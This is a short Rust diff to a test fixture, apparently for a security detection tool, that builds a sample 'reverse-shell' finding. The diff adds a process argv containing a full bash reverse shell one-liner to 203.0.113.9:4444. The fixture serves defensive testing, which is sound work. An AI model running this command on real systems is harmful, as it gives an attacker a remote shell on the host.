@@ -168,6 +168,8 @@ fn evidence(event: u64, text: &str) -> Evidence {
 }
 
 fn reverse_shell() -> Finding {
+    let mut process = process("/usr/bin/bash", &["/usr/bin/redis-server", "/bin/sh", "/sbin/init"]);
+    process.argv = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"].map(str::to_owned).into();
     Finding {
         id: "a1".repeat(32),
         rule: "reverse-shell".into(),
@@ -179,7 +181,7 @@ fn reverse_shell() -> Finding {
         attack: vec![technique("T1059.004", "Bash", "execution")],
         count: 1,
         first_seen: 1.234,
-        process: Some(process("/usr/bin/bash", &["/usr/bin/redis-server", "/bin/sh", "/sbin/init"])),
+        process: Some(process),
         evidence: vec![evidence(
             42,
             "/usr/bin/bash copied a tcp socket to 203.0.113.9:4444 onto standard input",
